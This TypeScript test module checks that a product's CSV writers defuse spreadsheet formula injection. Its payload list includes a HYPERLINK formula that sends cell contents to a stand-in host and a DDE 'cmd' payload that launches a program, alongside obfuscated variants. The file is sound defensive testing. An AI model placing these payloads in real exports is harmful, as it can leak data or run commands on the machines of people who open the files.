/**
 * The one test every CSV writer of the product runs (the CLI's `--format csv`, the dashboard's
 * export, the rejected-rows files of the importers and the server): given a table with formula
 * payloads in its text cells and negative numbers in a numeric column, the CSV it writes, read
 * back by the reader below (written here, apart from the writers), holds no text cell a
 * spreadsheet would run, keeps every text readable behind its single quote, and keeps numbers
 * numeric. See `csv.ts` for the convention.
 */
import { describe, expect, it } from 'vitest';
import { FORMULA_TRIGGERS } from './csv.js';

/** Texts that must never reach a spreadsheet as formulas, and harmless texts that must not change. */
export const FORMULA_PAYLOADS: readonly string[] = [
  '=1+1',
  '=HYPERLINK("http://example.test/?x="&A1,"click")',
  "=cmd|' /C calc'!A0",
  '+1+cmd|calc',
  '-2+3',
  '-12',
  '@SUM(A1:A2)',
  '\t=1+1',
  '\r=1+1',
  '＝1+1',
  '－1',
];
export const HARMLESS_TEXTS: readonly string[] = [
  'douyin',
  '抖音 618',
  'a, "quoted" name',
  ' padded ',
  '1-2',
  '',
];
export const NUMBERS: readonly number[] = [-12.5, -0.003, 0, 42, -1e6];

/** A table's columns: one text and one numeric, the way every writer's callers shape them. */
export interface InjectionTable {
  header: [string, string];
  rows: [string, number][];
}

export function injectionTable(): InjectionTable {
  const texts = [...FORMULA_PAYLOADS, ...HARMLESS_TEXTS];
  return {
    header: ['=name', 'value'],
    rows: texts.map((text, index) => [text, NUMBERS[index % NUMBERS.length]!]),
  };
}

/** RFC 4180 reading: records of fields, quoted fields may hold commas, quotes and line ends. */
export function readCsv(text: string): string[][] {
  const body = text.startsWith('\uFEFF') ? text.slice(1) : text;
  const records: string[][] = [];
  let record: string[] = [];
  let field = '';
  let quoted = false;
  let index = 0;
  while (index < body.length) {
    const character = body[index]!;
    if (quoted) {
      if (character === '"' && body[index + 1] === '"') {
        field += '"';
        index += 2;
        continue;
      }
      if (character === '"') quoted = false;
      else field += character;
      index++;
      continue;
    }
    if (character === '"') quoted = true;
    else if (character === ',') {
      record.push(field);
      field = '';
    } else if (character === '\n' || (character === '\r' && body[index + 1] === '\n')) {
      record.push(field);
      records.push(record);
      record = [];
      field = '';
      if (character === '\r') index++;
    } else field += character;
    index++;
  }
  if (field !== '' || record.length > 0) {
    record.push(field);
    records.push(record);
  }
  return records;
}

/**
 * How a writer is asked: it writes the table and says where in its output the two columns are
 * (writers may add columns of their own, such as a file name or a reason, around them).
 */
export interface CsvWriterUnderTest {
  write(table: InjectionTable): string | Promise<string>;
  /** Which field of a record holds the table's text, and which its number; -1 if it has none. */
  textField: number;
  numberField: number;
  /** Whether the table's header line is written (as the first record's fields). */
  writesHeader: boolean;
}

/** The test, for one writer. */
export function describeCsvWriter(name: string, writer: CsvWriterUnderTest): void {
  describe(`${name}: CSV formula injection`, () => {
    it('writes no text cell a spreadsheet would run, and keeps texts and numbers readable', async () => {
      const table = injectionTable();
      const records = readCsv(await writer.write(table));
      const body = writer.writesHeader ? records.slice(1) : records;
      expect(body).toHaveLength(table.rows.length);
      for (const [index, [text, number]] of table.rows.entries()) {
        const record = body[index]!;
        // Every field of every record: nothing begins like a formula but a plain number.
        for (const field of record) {
          if (field.length > 0 && FORMULA_TRIGGERS.includes(field[0]!)) {
            expect(Number.isFinite(Number(field)), `field ${JSON.stringify(field)}`).toBe(true);
          }
        }
        if (writer.textField >= 0) {
          const expected = text.length > 0 && FORMULA_TRIGGERS.includes(text[0]!) ? `'${text}` : text;
          expect(record[writer.textField]).toBe(expected);
        }
        if (writer.numberField >= 0) expect(Number(record[writer.numberField])).toBe(number);
      }
      if (writer.writesHeader) {
        for (const field of records[0] ?? []) expect(FORMULA_TRIGGERS.includes(field[0] ?? '')).toBe(false);
      }
    });
  });
}
